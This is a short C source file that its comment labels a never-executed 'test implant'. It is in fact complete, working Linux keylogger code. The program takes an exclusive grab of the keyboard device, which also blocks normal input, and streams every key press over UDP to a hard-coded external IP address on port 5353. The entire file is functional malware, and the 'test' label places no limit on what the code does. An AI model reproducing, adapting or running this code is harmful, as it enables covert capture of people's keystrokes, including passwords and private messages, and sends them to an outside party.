/* Test implant (never executed): grabs a keyboard and sends key codes to a
 * hard-coded address over UDP. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/input.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void)
{
	struct input_event ev;
	struct sockaddr_in a;
	int fd = open("/dev/input/event0", O_RDONLY);
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	if (fd < 0 || s < 0)
		return 1;
	ioctl(fd, EVIOCGRAB, 1);
	memset(&a, 0, sizeof(a));
	a.sin_family = AF_INET;
	a.sin_port = htons(5353);
	inet_pton(AF_INET, "91.215.85.17", &a.sin_addr);
	connect(s, (struct sockaddr *)&a, sizeof(a));
	while (read(fd, &ev, sizeof(ev)) == (ssize_t)sizeof(ev))
		if (ev.type == EV_KEY && ev.value == 1)
			send(s, &ev.code, sizeof(ev.code), 0);
	return 0;
}
